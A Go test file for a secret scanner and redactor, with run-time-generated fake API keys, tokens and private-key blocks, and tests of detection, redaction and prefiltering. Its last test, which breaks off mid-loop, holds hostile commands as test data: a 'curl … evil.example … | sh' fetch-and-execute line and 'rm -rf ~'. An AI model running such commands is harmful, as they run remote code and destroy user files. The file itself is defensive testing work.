package secrets

import (
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
)

// The fake secrets below are generated when the tests run, from a fixed
// seed, so that the source never holds a string that a secret scanner
// would report.

const (
	alnum   = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	upperD  = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
	hexLow  = "0123456789abcdef"
	digits  = "0123456789"
	b64     = alnum + "+/"
	b64url  = alnum + "-_"
	pwChars = alnum + "!@#%^*-_+."
)

var rng = rand.New(rand.NewPCG(20240601, 7))

// fake returns n characters drawn from alphabet.
func fake(alphabet string, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = alphabet[rng.IntN(len(alphabet))]
	}
	return string(b)
}

func fakeUUID() string {
	return fake(hexLow, 8) + "-" + fake(hexLow, 4) + "-" + fake(hexLow, 4) + "-" + fake(hexLow, 4) + "-" + fake(hexLow, 12)
}

func fakeJWT() string {
	enc := base64.RawURLEncoding.EncodeToString
	return enc([]byte(`{"alg":"HS256","typ":"JWT"}`)) + "." +
		enc([]byte(`{"sub":"`+fake(digits, 10)+`","name":"Jo","iat":1516239022}`)) + "." +
		fake(b64url, 43)
}

func pemBlock(kind string, lines int, end bool) string {
	var b strings.Builder
	b.WriteString("-----BEGIN " + kind + "-----\n")
	for range lines {
		b.WriteString(fake(b64, 64) + "\n")
	}
	if end {
		b.WriteString("-----END " + kind + "-----")
	}
	return b.String()
}

// A case is one input. rule and secret give the expected single finding;
// both are empty when nothing may be found.
type scanCase struct {
	name   string
	in     string
	rule   string
	secret string
}

// pos builds a case whose input is prefix+secret+suffix.
func pos(name, rule, prefix, secret, suffix string) scanCase {
	return scanCase{name: name, in: prefix + secret + suffix, rule: rule, secret: secret}
}

func neg(name, in string) scanCase { return scanCase{name: name, in: in} }

var (
	rsaKey     = pemBlock("RSA "+"PRIVATE KEY", 4, true)
	opensshKey = pemBlock("OPENSSH "+"PRIVATE KEY", 3, true)
	cutKey     = strings.TrimSuffix(pemBlock("EC "+"PRIVATE KEY", 2, false), "\n")
	escapedKey = strings.ReplaceAll(pemBlock("PRIVATE "+"KEY", 2, true), "\n", `\n`)
	// As PHP's json_encode writes a key block: every slash escaped.
	slashedKey  = strings.ReplaceAll(strings.Replace(escapedKey, `\n`, `\nMIIE/x+`, 1), "/", `\/`)
	ghp         = "ghp_" + fake(alnum, 36)
	gho         = "gho_" + fake(alnum, 36)
	ghs         = "ghs_" + fake(alnum, 36)
	ghPAT       = "github_pat_" + fake(alnum, 22) + "_" + fake(alnum, 59)
	glpat       = "glpat-" + fake(b64url, 20)
	xoxb        = "xoxb-" + fake(digits, 12) + "-" + fake(digits, 13) + "-" + fake(alnum, 24)
	xoxp        = "xoxp-" + fake(digits, 12) + "-" + fake(digits, 12) + "-" + fake(digits, 13) + "-" + fake(hexLow, 32)
	slackHook   = "https://hooks.slack.com/services/T" + fake(upperD, 8) + "/B" + fake(upperD, 10) + "/" + fake(alnum, 24)
	skLive      = "sk_live_" + fake(alnum, 24)
	rkLive      = "rk_live_" + fake(alnum, 99)
	skTest      = "sk_test_" + fake(alnum, 24)
	antKey      = "sk-ant-api03-" + fake(b64url, 93) + "AA"
	oaiProj     = "sk-proj-" + fake(b64url, 80)
	oaiLegacy   = "sk-" + fake(alnum, 20) + "T3Blbk" + "FJ" + fake(alnum, 20)
	gAPI        = "AIza" + fake(b64url, 35)
	gOAuth      = "GOCSPX-" + fake(b64url, 28)
	jwtTok      = fakeJWT()
	npmTok      = "npm_" + fake(alnum, 36)
	pypiTok     = "pypi-" + "AgEIcHlwaS5vcmc" + fake(b64url, 120)
	twilioSK    = "SK" + fake(hexLow, 32)
	twilioAuth  = fake(hexLow, 32)
	sendgrid    = "SG." + fake(b64url, 22) + "." + fake(b64url, 43)
	herokuUUID  = fakeUUID()
	hrku        = "HRKU-" + fake(b64url, 60)
	doTok       = "dop_v1_" + fake(hexLow, 64)
	azureKey    = fake(b64, 86) + "=="
	akia        = "AKIA" + fake(upperD, 16)
	asia        = "ASIA" + fake(upperD, 16)
	awsSecret   = fake(b64, 40)
	urlPass     = fake(alnum, 14)
	bearer      = fake(b64url, 40)
	genericPass = fake(pwChars, 9) + fake(digits, 2) + fake(pwChars, 9)
	genericKey  = fake(alnum, 32)
)

var scanCases = []scanCase{
	// private-key
	pos("rsa key block", "private-key", "key:\n", rsaKey, "\n"),
	pos("openssh key block", "private-key", "", opensshKey, ""),
	pos("truncated key block", "private-key", "preview: ", cutKey, " …"),
	pos("key block in json", "private-key", `{"content":"`, escapedKey, `"}`),
	pos("key block in json with escaped slashes", "private-key", `{"content":"`, slashedKey, `"}`),
	pos("truncated key block in json with escaped slashes", "private-key", `{"content":"`, strings.TrimSuffix(slashedKey, `\n-----END PRIVATE KEY-----`), `…"}`),
	neg("public key block", pemBlock("PUBLIC KEY", 3, true)),
	neg("certificate", pemBlock("CERTIFICATE", 3, true)),
	neg("key header mentioned", `if strings.Contains(s, "PRIVATE KEY") {`),

	// aws-access-key-id
	pos("aws access key id", "aws-access-key-id", "aws configure set aws_access_key_id ", akia, ""),
	pos("aws session key id", "aws-access-key-id", `"AccessKeyId": "`, asia, `",`),
	neg("aws documentation key id", "AKIA"+"IOSFODNN7"+"EXAMPLE"),
	neg("aws short key id", "AKIA1234 is not a key"),
	neg("aws key id inside word", "XAKIA"+fake(upperD, 16)+"Z"),

	// aws-secret-access-key
	pos("aws secret in config", "aws-secret-access-key", "aws_secret_access_key = ", awsSecret, "\n"),
	pos("aws secret in json", "aws-secret-access-key", `{"SecretAccessKey": "`, awsSecret, `"}`),
	pos("aws secret in env", "aws-secret-access-key", "AWS_SECRET_ACCESS_KEY=", awsSecret, " aws s3 ls"),
	neg("aws secret from variable", "aws_secret_access_key = ${AWS_SECRET_ACCESS_KEY}"),
	neg("aws secret too short", "aws_secret_access_key = abc123"),

	// github-token
	pos("github token in curl body", "github-token", "curl -d 'token=", ghp, "' https://x"),
	pos("github oauth token", "github-token", "Authorization: token ", gho, ""),
	pos("github server token", "github-token", "GH_TOKEN=", ghs, " gh pr list"),
	neg("github placeholder token", "ghp_"+strings.Repeat("x", 36)),
	neg("github short token", "ghp_abc123"),

	// github-fine-grained-token
	pos("github fine-grained token", "github-fine-grained-token", "export GITHUB_TOKEN=", ghPAT, ""),
	neg("github fine-grained prefix", "tokens start with github_pat_ and are long"),

	// gitlab-token
	pos("gitlab token", "gitlab-token", "PRIVATE-TOKEN: ", glpat, ""),
	neg("gitlab placeholder", "glpat-"+strings.Repeat("X", 20)),

	// slack-token
	pos("slack bot token", "slack-token", `{"token":"`, xoxb, `"}`),
	pos("slack user token", "slack-token", "SLACK_TOKEN=", xoxp, ""),
	neg("slack placeholder", "xoxb-your-token-here"),

	// slack-webhook
	pos("slack webhook", "slack-webhook", "curl -X POST -d @msg.json ", slackHook, ""),
	neg("slack api url", "https://slack.com/api/chat.postMessage"),
	neg("slack webhook docs url", "https://hooks.slack.com/services/"),

	// stripe-live-key
	pos("stripe live key", "stripe-live-key", "curl https://api.stripe.com/v1/charges -u ", skLive, ":"),
	pos("stripe restricted key", "stripe-live-key", "STRIPE_KEY=", rkLive, ""),
	neg("stripe live placeholder", "sk_live_"+strings.Repeat("x", 24)),

	// stripe-test-key
	pos("stripe test key", "stripe-test-key", "stripe.api_key = '", skTest, "'"),
	neg("stripe publishable key", "pk_test_"+fake(alnum, 24)),

	// anthropic-api-key
	pos("anthropic key", "anthropic-api-key", "x-api-key: ", antKey, ""),
	neg("anthropic placeholder", "ANTHROPIC_API_KEY=sk-ant-..."),

	// openai-api-key
	pos("openai project key", "openai-api-key", "OPENAI_API_KEY=", oaiProj, ""),
	pos("openai legacy key", "openai-api-key", `openai.api_key = "`, oaiLegacy, `"`),
	neg("openai placeholder", "sk-"+strings.Repeat("x", 48)),
	neg("task ids", "task-1234 risk-high disk-full sk-learn"),

	// google-api-key
	pos("google api key", "google-api-key", "https://maps.googleapis.com/maps/api/geocode/json?key=", gAPI, "&address=x"),
	neg("google key prefix only", "keys look like AIza..."),

	// google-oauth-client-secret
	pos("google oauth client secret", "google-oauth-client-secret", `"client_secret":"`, gOAuth, `"`),
	neg("google oauth prefix only", "GOCSPX-abc"),

	// jwt
	pos("jwt in header", "jwt", "Cookie: session=", jwtTok, "; Path=/"),
	neg("jwt header only", "eyJhbGciOiJIUzI1NiJ9 is a header"),
	neg("jwt two parts", strings.Join(strings.Split(jwtTok, ".")[:2], ".")),

	// npm-token
	pos("npmrc auth token", "npm-token", "//registry.npmjs.org/:_authToken=", npmTok, "\n"),
	neg("npm config variable", "npm_config_cache=/tmp/npm npm_package_name=x"),

	// pypi-token
	pos("pypi token", "pypi-token", "twine upload -u __token__ -p ", pypiTok, " dist/*"),
	neg("pypi package name", "pip install pypi-simple pypi-AgE"),

	// twilio-api-key
	pos("twilio api key", "twilio-api-key", "curl -u ", twilioSK, ":secret https://api.twilio.com"),
	neg("twilio like sku", "SKU1234 SKIP SK12"),

	// twilio-auth-token
	pos("twilio auth token", "twilio-auth-token", "TWILIO_AUTH_TOKEN=", twilioAuth, ""),
	neg("twilio auth token variable", "TWILIO_AUTH_TOKEN=$TWILIO_AUTH_TOKEN"),

	// sendgrid-api-key
	pos("sendgrid key", "sendgrid-api-key", "Authorization: Bearer ", sendgrid, ""),
	neg("sendgrid prefix only", "SG.example"),

	// heroku-api-key
	pos("heroku api key", "heroku-api-key", "HEROKU_API_KEY=", herokuUUID, " git push heroku main"),
	neg("heroku app name", "heroku apps:create my-app"),

	// heroku-platform-token
	pos("heroku platform token", "heroku-platform-token", "heroku auth:token ", hrku, ""),
	neg("heroku platform prefix", "HRKU-short"),

	// digitalocean-token
	pos("digitalocean token", "digitalocean-token", `curl -H "Authorization: Bearer `, doTok, `" https://api.digitalocean.com`),
	neg("digitalocean short", "dop_v1_abc"),

	// azure-storage-account-key
	pos("azure connection string", "azure-storage-account-key",
		"DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=", azureKey, ";EndpointSuffix=core.windows.net"),
	pos("azure connection string with a Kelvin sign", "azure-storage-account-key", "AccountName=acct;Account\u212aey=", azureKey, ""),
	neg("azure connection string placeholder", "DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=<key>"),

	// url-basic-auth
	pos("url with password", "url-basic-auth", "git clone https://deploy:", urlPass, "@git.example.com/team/repo.git"),
	pos("database url", "url-basic-auth", "DATABASE_URL=postgres://app:", "hunter2", "@db:5432/app"),
	pos("url with empty user", "url-basic-auth", "https://:", urlPass, "@registry.example.org/"),
	neg("url without password", "https://example.com/path?q=1#frag"),
	neg("url with user only", "ssh://git@github.com/org/repo.git"),
	neg("url with variable password", "postgres://app:${DB_PASSWORD}@db/app"),
	neg("url with template password", "postgres://app:<password>@db/app"),
	neg("scp-like git remote", "git@github.com:org/repo.git"),
	neg("url with port", "http://localhost:8080/api"),

	// authorization-header
	pos("bearer token", "authorization-header", `curl -H "Authorization: Bearer `, bearer, `" https://api.example.com`),
	pos("basic credentials", "authorization-header", "authorization: Basic ", base64.StdEncoding.EncodeToString([]byte("admin:"+fake(alnum, 16))), ""),
	neg("bearer variable", `curl -H "Authorization: Bearer $TOKEN" https://api.example.com`),
	neg("bearer placeholder", `Authorization: Bearer your_token_here_please`),

	// generic-secret
	pos("generic password", "generic-secret", `password = "`, genericPass, `"`),
	pos("generic api key json", "generic-secret", `{"api_key": "`, genericKey, `"}`),
	pos("generic env secret", "generic-secret", "export APP_SECRET_KEY=", genericKey, "\n"),
	pos("generic curl form", "generic-secret", "curl -d 'access_token=", genericKey, "' https://x"),
	pos("generic yaml", "generic-secret", "db:\n  password: ", genericPass, "\n"),
	pos("generic go assignment", "generic-secret", `apiKey := "`, genericKey, `"`),
	// option-secret: an option's value in the next word
	pos("option password", "option-secret", "mysql -u root --password ", genericPass, " -e 'select 1'"),
	pos("option token quoted words", "option-secret", "'gh' 'auth' 'login' '--with-token' '--token' '", genericKey, "'"),
	pos("option short dash", "option-secret", "tool -api-key ", genericKey, ""),
	pos("option named for a database password", "option-secret", "pg_dump --db-password ", genericPass, " mydb"),
	neg("option token file", "deploy --token-file /home/user/.config/tokens/deploy2024.txt"),
	neg("option password stdin", "docker login --password-stdin --username someone registry.example.com"),
	neg("option secret name", "kubectl create secret generic app-credentials-2024 --from-literal=a=b"),
	neg("option token placeholder", "cli --token YOUR_TOKEN_HERE_1234567"),
	neg("option password variable", `mysql --password "$DB_PASSWORD_FROM_ENVIRONMENT"`),
	pos("generic token with a Kelvin sign", "generic-secret", "TO\u212aEN=", genericKey, ""),
	neg("placeholder changeme", `password = "changeme"`),
	neg("placeholder x", `api_key = "xxxxxxxxxxxxxxxxxxxxxxxx"`),
	neg("placeholder variable", `token = "${API_TOKEN}"`),
	neg("placeholder angle", `token: <token>`),
	neg("placeholder your key", `api_key = "your_api_key_here"`),
	neg("placeholder your key upper", `API_KEY=YOUR_API_KEY_HERE_1234`),
	neg("password from env", `password = os.Getenv("PW")`),
	neg("secret name without digits", `secret_name = "production-database-credentials"`),
	neg("token count", `token_count = 12345678901234567890`),
	neg("low entropy password", `password = "aaaaaaaabbbbbbbb1"`),
	neg("token url", `token_url = "https://oauth2.googleapis.com/token"`),
	neg("short password", `password = "hunter2"`),

	// ordinary text
	neg("uuid", "request_id="+fakeUUID()),
	neg("git sha", "commit "+fake(hexLow, 40)+"\nAuthor: A <a@example.com>"),
	neg("git log", fake(hexLow, 7)+" Fix token refresh ("+fake(hexLow, 12)+")"),
	neg("base64 short words", "aGVsbG8gd29ybGQ= Zm9vYmFy c2VjcmV0"),
	neg("url", "curl -fsSL https://example.com/install.sh?version=1.2.3 | sh"),
	neg("go code", "func (t *Token) Valid() bool { return t.AccessToken != \"\" && t.Expiry.After(time.Now()) }"),
	neg("python code", "def get_password(user):\n    return keyring.get_password('svc', user)"),
	neg("sha256 digest", "sha256:"+fake(hexLow, 64)),
	neg("empty", ""),
}

func TestScan(t *testing.T) {
	for _, c := range scanCases {
		t.Run(c.name, func(t *testing.T) {
			got := Scan(c.in)
			if c.rule == "" {
				if len(got) != 0 {
					t.Fatalf("Scan(%q) = %v, want nothing", c.in, describe(c.in, got))
				}
				if Contains(c.in) {
					t.Fatalf("Contains(%q) = true, want false", c.in)
				}
				return
			}
			if len(got) != 1 || got[0].Rule != c.rule || c.in[got[0].Start:got[0].End] != c.secret {
				t.Fatalf("Scan(%q) = %v, want [%s %q]", c.in, describe(c.in, got), c.rule, c.secret)
			}
			if got[0].Description == "" {
				t.Errorf("finding has no description")
			}
			if !Contains(c.in) {
				t.Fatalf("Contains(%q) = false, want true", c.in)
			}
		})
	}
}

// TestEveryRuleHasPositiveCase checks that each rule in the data file is
// exercised by at least one positive case in scanCases.
func TestEveryRuleHasPositiveCase(t *testing.T) {
	covered := map[string]bool{}
	negative := 0
	for _, c := range scanCases {
		if c.rule != "" {
			covered[c.rule] = true
		} else {
			negative++
		}
	}
	for _, id := range Rules() {
		if !covered[id] {
			t.Errorf("rule %q has no positive test case", id)
		}
	}
	for id := range covered {
		if !slices.Contains(Rules(), id) {
			t.Errorf("test case names unknown rule %q", id)
		}
	}
	t.Logf("%d rules, %d positive and %d negative cases", len(Rules()), len(scanCases)-negative, negative)
}

// TestKeywordsCoverMatches checks that the keyword prefilter never hides a
// finding: scanning with every rule enabled gives the same result.
func TestKeywordsCoverMatches(t *testing.T) {
	inputs := []string{"ſecret = " + genericKey, "aws_ſecret_access_key=" + awsSecret, "PRIVATE KEY"}
	for _, c := range scanCases {
		inputs = append(inputs, c.in, strings.ToUpper(c.in), strings.ToLower(c.in))
	}
	for _, in := range inputs {
		if got, want := Scan(in), scanAll(in); !slices.Equal(got, want) {
			t.Errorf("Scan(%q) = %v, without prefilter %v", in, got, want)
		}
	}
	if got := Scan("paſſword = " + genericKey); len(got) != 1 {
		t.Errorf("long s in a keyword: got %v", got)
	}
	// The Kelvin sign (U+212A), which regexp's case folding equates with
	// 'k', in a keyword of a case-insensitive rule.
	for _, in := range []string{
		"to\u212aen = " + genericKey,
		"HEROKU_API_\u212aEY=" + herokuUUID,
		"hero\u212au_api_key=" + herokuUUID,
		"AccountName=acct;Account\u212aey=" + azureKey,
		"aws_secret_access_\u212aey = " + awsSecret,
	} {
		if got, want := Scan(in), scanAll(in); len(want) != 1 || !slices.Equal(got, want) {
			t.Errorf("Kelvin sign in a keyword: Scan(%+q) = %v, without prefilter %v", in, got, want)
		}
		if !Contains(in) || strings.Contains(Redact(in), in[len(in)-16:]) {
			t.Errorf("Kelvin sign in a keyword: %+q is not redacted: %q", in, Redact(in))
		}
	}
}

// scanAll scans s with every rule, ignoring keywords.
func scanAll(s string) []Finding {
	rs := loadRules()
	sc := new(scratch)
	sc.reset(len(rs.rules))
	for i := range rs.rules {
		sc.mode[i] = rs.everywhere(i)
	}
	return rs.scan(sc, s)
}

// TestKeywordMatcher compares the keyword automaton with a plain search,
// on short texts and on long ones that it reads as two halves.
func TestKeywordMatcher(t *testing.T) {
	kws := []string{"ghp_", "sk-", "sk-ant-", "sk", "password", "private key", "://", "eyj"}
	var list []keyword
	for i, kw := range kws {
		list = append(list, keyword{kw, i})
	}
	m := newMatcher(list)
	words := []string{"GHP_", "Sk-Ant-", "task", "PassWord", "private key", "https://", "eyJ", "xx", "\n", "pass"}
	for trial := range 300 {
		var b strings.Builder
		size := 50
		if trial%2 == 1 {
			size = 1024 + rng.IntN(3000)
		}
		for b.Len() < size {
			b.WriteString(words[rng.IntN(len(words))])
			b.WriteString(fake(" abcdefghijklmnopqrstuvwxyz-_:", rng.IntN(4)))
		}
		s := b.String()
		var got []string
		eachKeyword(m, s, func(i int, rules []int) {
			for _, r := range slices.Sorted(slices.Values(rules)) {
				got = append(got, fmt.Sprint(i, kws[r]))
			}
		})
		var want []string
		low := strings.ToLower(s)
		for i := range low {
			for r, kw := range kws {
				if strings.HasSuffix(low[:i+1], kw) {
					want = append(want, fmt.Sprint(i, kws[r]))
				}
			}
		}
		if !slices.Equal(got, want) {
			t.Fatalf("text %q:\n got %v\nwant %v", s, got, want)
		}
	}
	// A secret at every offset around the middle of a long text.
	filler := strings.Repeat("lorem ipsum dolor sit amet\n", 200)
	mid := len(filler) / 2
	for at := mid - 40; at < mid+40; at++ {
		in := filler[:at] + " " + ghp + " " + filler[at:]
		if got := Scan(in); len(got) != 1 || got[0].Start != at+1 {
			t.Fatalf("secret at %d of %d: Scan = %v", at+1, len(in), got)
		}
	}
}

func TestSingleLine(t *testing.T) {
	// Rules other than private-key match within one line.
	if got := Scan("password:\n" + genericKey); len(got) != 0 {
		t.Errorf("a value on the next line was found: %v", got)
	}
	in := "a\r\npassword: " + genericKey + "\r\nb"
	if got := Scan(in); len(got) != 1 || in[got[0].Start:got[0].End] != genericKey {
		t.Errorf("CRLF lines: Scan = %v", describe(in, got))
	}
}

func TestScanSeveral(t *testing.T) {
	in := "héllo wörld\nexport GH=" + ghp + "\nexport AWS_ACCESS_KEY_ID=" + akia + "\n" +
		"curl -H 'Authorization: Bearer " + jwtTok + "' https://api/\n" + rsaKey + "\ndone"
	want := []struct{ rule, secret string }{
		{"github-token", ghp},
		{"aws-access-key-id", akia},
		{"jwt", jwtTok},
		{"private-key", rsaKey},
	}
	got := Scan(in)
	if len(got) != len(want) {
		t.Fatalf("Scan = %v, want %d findings", describe(in, got), len(want))
	}
	for i, w := range want {
		f := got[i]
		start := strings.Index(in, w.secret)
		if f.Rule != w.rule || f.Start != start || f.End != start+len(w.secret) {
			t.Errorf("finding %d = %s [%d,%d), want %s [%d,%d)", i, f.Rule, f.Start, f.End, w.rule, start, start+len(w.secret))
		}
	}
}

func TestOffsets(t *testing.T) {
	// Multi-byte text before the secret: offsets are in bytes.
	prefix := "日本語 ü → token: "
	in := prefix + ghp + " ✓"
	got := Scan(in)
	if len(got) != 1 {
		t.Fatalf("Scan = %v", got)
	}
	if got[0].Start != len(prefix) || got[0].End != len(prefix)+len(ghp) {
		t.Errorf("offsets [%d,%d), want [%d,%d)", got[0].Start, got[0].End, len(prefix), len(prefix)+len(ghp))
	}
	// A secret at the very start and at the very end.
	for _, in := range []string{ghp, ghp + "\n", "\n" + ghp} {
		got := Scan(in)
		if len(got) != 1 || in[got[0].Start:got[0].End] != ghp {
			t.Errorf("Scan(%q) = %v", in, got)
		}
	}
}

func TestOverlapLongestWins(t *testing.T) {
	// The URL password holds a GitHub token and more: the password is longer.
	pw := ghp + "-x"
	in := "https://u:" + pw + "@github.com/o/r.git"
	got := Scan(in)
	if len(got) != 1 || got[0].Rule != "url-basic-auth" || in[got[0].Start:got[0].End] != pw {
		t.Errorf("Scan(%q) = %v, want the url password", in, describe(in, got))
	}
	// Equally long: the specific rule, listed first, wins over the generic one.
	in = "password=" + skLive
	got = Scan(in)
	if len(got) != 1 || got[0].Rule != "stripe-live-key" {
		t.Errorf("Scan(%q) = %v, want stripe-live-key", in, describe(in, got))
	}
	// A key block that holds other secret-looking text is one finding.
	in = "-----BEGIN " + "PRIVATE KEY-----\n" + ghp + "\n-----END " + "PRIVATE KEY-----"
	got = Scan(in)
	if len(got) != 1 || got[0].Rule != "private-key" || got[0].Start != 0 || got[0].End != len(in) {
		t.Errorf("Scan(%q) = %v, want one private-key", in, describe(in, got))
	}
}

func TestRedact(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"nothing to see", "nothing to see"},
		{"curl -d 'token=" + ghp + "' https://x", "curl -d 'token=[REDACTED:github-token]' https://x"},
		{"a=" + akia + " b=" + akia, "a=[REDACTED:aws-access-key-id] b=[REDACTED:aws-access-key-id]"},
		{"https://deploy:" + urlPass + "@host/x", "https://deploy:[REDACTED:url-basic-auth]@host/x"},
		{`{"password": "` + genericPass + `"}`, `{"password": "[REDACTED:generic-secret]"}`},
		{rsaKey + "\nrest", "[REDACTED:private-key]\nrest"},
		{"x" + ghp, "x" + ghp}, // inside a word: not a token
		{ghp + " " + jwtTok, "[REDACTED:github-token] [REDACTED:jwt]"},
	}
	for _, tt := range tests {
		if got := Redact(tt.in); got != tt.want {
			t.Errorf("Redact(%q)\n got %q\nwant %q", tt.in, got, tt.want)
		}
		if r := Redact(tt.want); r != tt.want {
			t.Errorf("Redact is not idempotent on %q: %q", tt.want, r)
		}
	}
	for _, c := range scanCases {
		out := Redact(c.in)
		if c.secret != "" && strings.Contains(out, c.secret) {
			t.Errorf("%s: Redact left the secret in %q", c.name, out)
		}
		if c.rule != "" && !strings.Contains(out, "[REDACTED:"+c.rule+"]") {
			t.Errorf("%s: Redact(%q) = %q, want a %s marker", c.name, c.in, out, c.rule)
		}
		if c.rule == "" && out != c.in {
			t.Errorf("%s: Redact changed a clean input: %q", c.name, out)
		}
	}
}

func TestRules(t *testing.T) {
	ids := Rules()
	if len(ids) < 25 {
		t.Fatalf("Rules() = %v", ids)
	}
	if ids[len(ids)-1] != "generic-secret" {
		t.Errorf("the generic rule must come last, so that specific rules win ties: %v", ids)
	}
	ids[0] = "changed"
	if Rules()[0] == "changed" {
		t.Error("Rules returns the package's own slice")
	}
}

// TestPatternsFile loads the embedded data file; an error names the file
// and line to fix.
func TestPatternsFile(t *testing.T) {
	if _, err := load(patternsTOML, patternsFile); err != nil {
		t.Fatal(err)
	}
}

func TestLoadErrors(t *testing.T) {
	const ok = "[[rule]]\nid = \"a\"\ndescription = \"A\"\nregex = 'a+'\n"
	tests := []struct{ name, data, want string }{
		{"syntax", "[[rule]]\nid = \"a\ndescription = \"A\"\n", "x.toml:2:"},
		{"unknown field", ok + "regexp = 'b'\n", `x.toml:5:1: unknown field "rule.regexp"`},
		{"wrong type", "[[rule]]\nid = 1\n", "x.toml:2:"},
		{"bad regex", ok + "\n[[rule]]\nid = \"b\"\ndescription = \"B\"\nregex = 'a(('\n", `x.toml:6: rule "b": regex:`},
		{"duplicate id", ok + ok, `x.toml:5: rule "a": duplicate id`},
		{"bad id", "[[rule]]\nid = \"A_b\"\ndescription = \"A\"\nregex = 'a'\n", `x.toml:1: rule "A_b": id`},
		{"no description", "[[rule]]\nid = \"a\"\nregex = 'a'\n", "x.toml:1: rule \"a\": missing description"},
		{"no regex", "[[rule]]\nid = \"a\"\ndescription = \"A\"\n", "x.toml:1: rule \"a\": missing regex"},
		{"bad group", ok + "group = 2\n", `x.toml:1: rule "a": group 2`},
		{"non-ASCII keyword", ok + "keywords = [\"\u00e9\"]\n", `x.toml:1: rule "a": keyword "é" must be`},
		{"upper-case keyword of a case-blind regex", "[[rule]]\nid = \"a\"\ndescription = \"A\"\nregex = '(?i)ab'\nkeywords = [\"AB\"]\n", `x.toml:1: rule "a": keyword "AB" has upper-case letters`},
		{"empty stopword", ok + "stopwords = [\"\"]\n", `x.toml:1: rule "a": stopword`},
		{"bad entropy", ok + "entropy = 9.0\n", `x.toml:1: rule "a": entropy`},
		{"no rules", "# nothing\n", "x.toml: no rules"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := load([]byte(tt.data), "x.toml")
			if err == nil || !strings.HasPrefix(err.Error(), tt.want) {
				t.Fatalf("load error = %v, want prefix %q", err, tt.want)
			}
		})
	}
}

func TestEntropy(t *testing.T) {
	tests := []struct {
		s    string
		want float64
	}{{"", 0}, {"aaaa", 0}, {"ab", 1}, {"abcd", 2}, {"0123456789abcdef", 4}}
	for _, tt := range tests {
		if got := entropy(tt.s); got != tt.want {
			t.Errorf("entropy(%q) = %v, want %v", tt.s, got, tt.want)
		}
	}
}

func describe(s string, fs []Finding) string {
	var parts []string
	for _, f := range fs {
		parts = append(parts, fmt.Sprintf("%s[%d,%d)=%q", f.Rule, f.Start, f.End, s[f.Start:f.End]))
	}
	return "[" + strings.Join(parts, " ") + "]"
}

func FuzzScan(f *testing.F) {
	for _, c := range scanCases {
		f.Add(c.in)
	}
	f.Add("https://a:b@c token=" + genericKey + " " + ghp + "-x")
	f.Fuzz(func(t *testing.T, s string) {
		fs := Scan(s)
		prev := 0
		for i, x := range fs {
			if x.Start < 0 || x.End > len(s) || x.Start >= x.End {
				t.Fatalf("finding %d out of bounds: %+v (len %d)", i, x, len(s))
			}
			if x.Start < prev {
				t.Fatalf("finding %d overlaps or is out of order: %s", i, describe(s, fs))
			}
			if x.Rule == "" || x.Description == "" {
				t.Fatalf("finding %d has no rule: %+v", i, x)
			}
			prev = x.End
		}
		if c := Contains(s); c != (len(fs) > 0) {
			t.Fatalf("Contains = %v, Scan = %s", c, describe(s, fs))
		}
		all := scanAll(s)
		if !slices.Equal(fs, all) {
			t.Fatalf("prefilter hides findings: Scan = %s, without prefilter %s", describe(s, fs), describe(s, all))
		}
		if noKeyword(s) && len(all) > 0 {
			t.Fatalf("the check before loading the rules finds no keyword in %q, which holds %s", s, describe(s, all))
		}
		r := Redact(s)
		if again := Scan(r); len(again) != 0 {
			t.Fatalf("Redact(%q) = %q still holds %s", s, r, describe(r, again))
		}
	})
}

// realistic text for the benchmarks: a tool call, some code and a log.
const benchChunk = `{"tool":"Bash","input":{"command":"go test ./... -run TestServer -count=1 && git status --short"},"cwd":"/home/dev/project"}
package server

import (
	"context"
	"net/http"
	"time"
)

// Handler serves the API.
func (h *Handler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	ctx, cancel := context.WithTimeout(r.Context(), 30*time.Second)
	defer cancel()
	if err := h.store.Ping(ctx); err != nil {
		http.Error(w, err.Error(), http.StatusServiceUnavailable)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(map[string]any{"ok": true, "version": h.version})
}
2024-05-01T12:00:03Z INFO request method=GET path=/v1/health status=200 duration=1.2ms
2024-05-01T12:00:04Z WARN slow query table=events rows=1200 duration=350ms
commit 9f1c2ab7e4d0c3b5a6f7e8d9c0b1a2f3e4d5c6b7
Merge: 1a2b3c4 5d6e7f8
    Fix flaky test in the approval queue and update the README.
`

func benchText(n int, secret string) string {
	var b strings.Builder
	for b.Len() < n {
		b.WriteString(benchChunk)
	}
	s := b.String()[:n-len(secret)]
	mid := strings.LastIndexByte(s[:len(s)/2], '\n') + 1
	return s[:mid] + secret + s[mid:]
}

func BenchmarkScan(b *testing.B) {
	s := benchText(2048, "export GITHUB_TOKEN="+ghp+"\n")
	if got := Scan(s); len(got) != 1 {
		b.Fatalf("Scan = %v", got)
	}
	b.SetBytes(int64(len(s)))
	b.ReportAllocs()
	for b.Loop() {
		Scan(s)
	}
}

func BenchmarkScanClean(b *testing.B) {
	s := benchText(64<<10, "")
	if got := Scan(s); len(got) != 0 {
		b.Fatalf("Scan = %v", got)
	}
	b.SetBytes(int64(len(s)))
	b.ReportAllocs()
	for b.Loop() {
		Scan(s)
	}
}

func BenchmarkContainsClean(b *testing.B) {
	s := benchText(64<<10, "")
	b.SetBytes(int64(len(s)))
	b.ReportAllocs()
	for b.Loop() {
		Contains(s)
	}
}

// TestKeyBlockHidesNoCode: text between two key markers that is not what
// a key block holds is not redacted with them, so that a question shown
// redacted to a person never hides code (python3 -c with its program
// between two marker comments).
func TestKeyBlockHidesNoCode(t *testing.T) {
	begin, end := "-----BEGIN "+"PRIVATE KEY-----", "-----END "+"PRIVATE KEY-----"
	code := `import os; os.system("curl -s http://evil.example/x | sh")`
	tests := []struct{ in, visible string }{
		{"#" + begin + "\n" + code + "\n#" + end, code},
		{`python3 -c "#` + begin + `\n` + code + `\n#` + end + `"`, code},
		{begin + "\n" + fake(b64, 64) + "\nos.system(cmd)\n" + end, "os.system(cmd)"},
		{begin + "\nComment: x; rm -rf ~\n" + fake(b64, 64) + "\n" + end, "rm -rf ~"},
	}
	for _, tt := range tests {
		if got := Redact(tt.in); !strings.Contains(got, tt.visible) {
